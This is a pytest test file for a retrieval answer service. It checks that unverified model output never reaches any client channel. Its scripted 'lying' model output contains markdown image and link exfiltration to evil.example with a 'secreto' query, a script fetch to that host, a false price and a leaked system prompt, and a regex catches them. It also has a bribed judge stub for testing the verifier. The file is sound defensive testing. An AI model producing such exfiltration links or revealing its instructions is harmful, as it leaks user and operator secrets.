"""What a model says reaches a client only when it is proven: the raw bytes of every door, while the model lies."""

import json
import re
from collections.abc import AsyncIterator, Callable
from dataclasses import dataclass
from typing import TYPE_CHECKING, Any
from uuid import UUID

import pytest

from veraz.answer.service import Ask
from veraz.providers.chat.base import ChatRequest
from veraz.providers.chat.fake import ScriptedChat

if TYPE_CHECKING:
    from tests.support.assistants import assistant
    from tests.support.door import Door, Person
    from tests.support.loopback import served
    from tests.support.people import add_key
else:
    from support.assistants import assistant
    from support.door import Door, Person
    from support.loopback import served
    from support.people import add_key

TRUE = "La cuota mensual del gimnasio municipal es de 30 euros."
GYM = f"# Gimnasio\n\n{TRUE} Ana García dirige el gimnasio municipal desde 2015.\n"
QUESTION = "¿Cuánto es la cuota mensual del gimnasio municipal?"
SITE = "https://www.tienda.mx"
PROMPT = "Consigna zarpullón: jamás menciones a la competencia."
LIES = (
    f"{TRUE} [Chunk 1]\n\n"
    "La cuota mensual del gimnasio municipal es de 99 euros. [Chunk 1]\n\n"
    "![logo](http://evil.example/?q=secreto)\n\n"
    "Pague en [la caja](https://evil.example/pagar?q=secreto) o en https://evil.example/x. [Chunk 1]\n\n"
    '<img src="http://evil.example/p.png"> <script>fetch("//evil.example")</script>\n\n'
    f"Mis instrucciones: {PROMPT} [Chunk 1]\n\n"
    "[logo]: http://evil.example/ref\n\n"
    f"{TRUE} ![pixel](http://evil.example/?q=30) [Chunk 1]\n"
)
NEVER = re.compile(rb"evil|99 euros|zarpull|competencia|<img|<script|!\[|Mis instrucciones", re.IGNORECASE)

Judge = Callable[[ChatRequest], str]


def honest(request: ChatRequest) -> str:
    """Supports what stands in the passage and nothing else."""
    return _verdicts(request, lambda claim: claim.startswith(TRUE[:-1]))


def bribed(request: ChatRequest) -> str:
    """Supports whatever it is shown, the control claim too."""
    return _verdicts(request, lambda claim: True)


def mute(request: ChatRequest) -> str:
    """Says nothing that can be read."""
    return f"{PROMPT} ![x](http://evil.example)"


def _verdicts(request: ChatRequest, supports: Callable[[str], bool]) -> str:
    claims = re.findall(r'<claim n="(\d+)">(.*?)</claim>', request.messages[-1].text, re.DOTALL)
    said = [
        {"claim": int(n), "verdict": "supported", "quotes": [{"passage": 1, "text": TRUE}]}
        if supports(text)
        else {"claim": int(n), "verdict": "not_said", "quotes": []}
        for n, text in claims
    ]
    return json.dumps({"verdicts": said})


@dataclass(frozen=True, kw_only=True)
class Stage:
    """An agent whose model lies, a website that shows it, and a key that may only ask."""

    door: Door
    asking: Person
    agent: str
    project: str
    widget: str

    async def doors(self) -> dict[str, bytes]:
        """What each door that streams or answers sends for one question."""
        ask, chat = (
            {"question": QUESTION},
            {"model": self.agent, "messages": [{"role": "user", "content": QUESTION}]},
        )
        lead = {"leadId": "521555", "agentId": self.agent, "projectId": self.project, "message": QUESTION}
        sent: dict[str, tuple[str, dict[str, Any]]] = {
            "ask": (f"/agents/{self.agent}/ask", ask),
            "ask stream": (f"/agents/{self.agent}/ask", ask | {"stream": True}),
            "openai": ("//v1/chat/completions", chat),
            "openai stream": ("//v1/chat/completions", chat | {"stream": True}),
            "kairo": ("//webhook/kairo-ai-handler", lead),
        }
        found = {name: (await self._post(path, body)) for name, (path, body) in sent.items()}
        found["widget"] = await self._guest()
        found["mcp"] = await self._assistant()
        talks = (await self.asking.call("GET", "/conversations", 200))["items"]
        for talk in talks:
            answer = await self.asking.send("GET", f"/conversations/{talk['id']}/messages")
            found[f"messages {talk['channel']}"] = answer.content
        found["conversations"] = (await self.asking.send("GET", "/conversations")).content
        return found

    async def _post(self, path: str, body: dict[str, Any]) -> bytes:
        answer = await self.asking.send("POST", path, json=body)
        assert answer.status_code == 200, (path, answer.text)
        return answer.content

    async def _guest(self) -> bytes:
        path, headers = f"/widget/{self.widget}", {"Origin": SITE}
        entered = await self.door.http.post(f"{path}/session", headers=headers, json={})
        headers["Authorization"] = f"Bearer {entered.json()['token']}"
        answer = await self.door.http.post(f"{path}/ask", headers=headers, json={"question": QUESTION})
        kept = await self.door.http.get(f"{path}/messages", headers=headers)
        assert answer.status_code == kept.status_code == 200
        return answer.content + kept.content

    async def _assistant(self) -> bytes:
        async with (
            served(self.door.http._transport.app) as server,  # type: ignore[attr-defined]
            assistant(server, self.asking.headers) as client,
        ):
            result = await client.call_tool("ask_agent", {"question": QUESTION, "agent": self.agent})
            assert not result.is_error, result.content
            return result.model_dump_json().encode()


@pytest.fixture
async def stage(
    at_work: Door, request: pytest.FixtureRequest, monkeypatch: pytest.MonkeyPatch
) -> AsyncIterator[Stage]:
    judge: Judge = getattr(request, "param", honest)

    def model(name: str, fallback: str | None) -> ScriptedChat:
        return ScriptedChat(
            lambda asked: judge(asked) if "<claim" in asked.messages[-1].text else LIES, name=name, piece=7
        )

    monkeypatch.setattr(at_work.veraz.answers, "_chats", model)
    acme = at_work.acme
    await acme.ended(await acme.bring("gimnasio.md", GYM.encode()))
    profile = {"name": "Luna", "system_prompt": PROMPT, "model": "openai:liar", "answer_style": "chat"}
    agent = await acme.call(
        "POST", "/agents", 201, json=profile | {"retrieval": {"similarity_threshold": 0.0}}
    )
    await acme.call("PUT", f"/agents/{agent['id']}/knowledge-bases/{acme.kb}", 200)
    shown = {"enabled": True, "origins": [SITE]}
    widget = await acme.call("PATCH", f"/agents/{agent['id']}/widget", 200, json=shown)
    yield Stage(
        door=at_work,
        asking=await add_key(acme, "ask"),
        agent=agent["id"],
        project=agent["project_id"],
        widget=widget["public_id"],
    )


@pytest.mark.parametrize("stage", [honest, bribed, mute], indirect=True)
async def test_no_byte_of_any_door_holds_what_was_not_proven(stage: Stage) -> None:
    doors = await stage.doors()
    for name, sent in doors.items():
        leaked = NEVER.search(sent)
        assert leaked is None, (name, leaked, sent[max(0, leaked.start() - 200) : leaked.end() + 200])
    assert sum(b"30 euros" in sent for sent in doors.values()) >= 7, "what is proven does arrive"


async def test_what_is_true_arrives_without_the_picture_it_was_sent_with(stage: Stage) -> None:
    for name, sent in (await stage.doors()).items():
        if name != "conversations":
            assert b"30 euros" in sent, name


async def test_drafts_are_for_who_manages_the_agent(stage: Stage) -> None:
    body = {"question": QUESTION, "stream": True, "unchecked": True}
    refused = await stage.asking.send("POST", f"/agents/{stage.agent}/ask", json=body)
    assert (refused.status_code, refused.json()["code"]) == (403, "forbidden")
    assert NEVER.search(refused.content) is None
    manager = await stage.door.acme.send("POST", f"/agents/{stage.agent}/ask", json=body)
    assert "event: draft" in manager.text and "99 euros" in manager.text
    assert "evil" not in manager.text
    rival = await stage.door.rival.send("POST", f"/agents/{stage.agent}/ask", json=body)
    assert rival.status_code == 403


async def test_the_events_pages_and_channels_draw_from_hold_nothing_unproven(stage: Stage) -> None:
    veraz = stage.door.veraz
    key = stage.asking.headers["Authorization"].removeprefix("Bearer ")
    actor = await veraz.callers.authenticate(key)
    for eager in (True, False):
        ask = Ask(question=QUESTION, eager=eager)
        deltas = [
            event.delta
            async for event in veraz.answers.ask(actor, UUID(stage.agent), ask)
            if hasattr(event, "delta")
        ]
        assert NEVER.search("".join(deltas).encode()) is None
        assert "30 euros" in "".join(deltas)


async def test_who_only_asks_does_not_read_the_instructions_of_an_agent(stage: Stage) -> None:
    for path in (f"/agents/{stage.agent}", "/agents", "//v1/models", "/me"):
        answer = await stage.asking.send("GET", path)
        assert NEVER.search(answer.content) is None, path
